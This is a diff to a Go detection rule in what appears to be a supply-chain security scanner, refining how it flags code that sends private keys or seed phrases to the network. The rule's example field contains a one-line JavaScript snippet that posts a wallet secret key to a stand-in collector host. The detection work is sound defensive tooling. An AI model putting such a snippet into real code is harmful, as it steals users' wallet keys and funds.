@@ -162,9 +162,10 @@ type SecretExfil struct{}
 // Meta implements analyze.Rule.
 func (SecretExfil) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "cred/secret-exfil", Version: 1, Title: "Sends private keys or seed phrases to the network",
+		ID: "cred/secret-exfil", Version: 2, Title: "Sends private keys or seed phrases to the network",
 		Help: "A value named like a private key, secret key, mnemonic or seed phrase is passed to a network call, or to a local function whose body " +
-			"posts to a hard-coded URL. Wallet libraries sign locally; sending key material anywhere is theft (the @solana/web3.js 1.95.6-7 backdoor).",
+			"posts to a hard-coded URL (a bare call counts only when it calls that very function: bundles reuse one-letter names, and a name "+
+			"alone would match them all). Wallet libraries sign locally; sending key material anywhere is theft (the @solana/web3.js 1.95.6-7 backdoor).",
 		Remediation:     "Do not use this version; move funds from any key it handled.",
 		Example:         `function q(k){ fetch("https://collector.example/q", {headers: {"x-id": k}}) } q(keypair.secretKey)`,
 		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigWallet, Needs: analyze.NeedCode,
@@ -177,7 +178,7 @@ var secretName = regexp.MustCompile(`(?i)^_?(private_?key|secret_?key|mnemonic|s
 func (SecretExfil) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
 	for _, f := range rulekit.Code(ctx, t) {
 		for _, c := range f.Facts.Calls {
-			sender := rulekit.IsNetCall(c) || slices.Contains(f.Facts.Senders, rulekit.Last(c.Callee))
+			sender := rulekit.IsNetCall(c) || c.Sender
 			if !sender {
 				continue
 			}
